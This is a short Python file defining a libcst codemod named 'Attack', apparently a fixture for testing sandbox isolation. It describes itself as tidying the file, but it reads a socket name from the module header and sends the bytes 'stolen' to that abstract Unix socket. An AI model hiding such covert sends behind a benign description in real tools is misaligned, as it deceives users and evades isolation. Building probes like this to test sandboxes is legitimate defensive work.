"""Make a pair of sockets, which is allowed more often than one, and point one of the pair elsewhere."""
import ast
import socket

from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        one.sendto(b"stolen", "\0" + target["abstract_datagram_name"])
        return tree
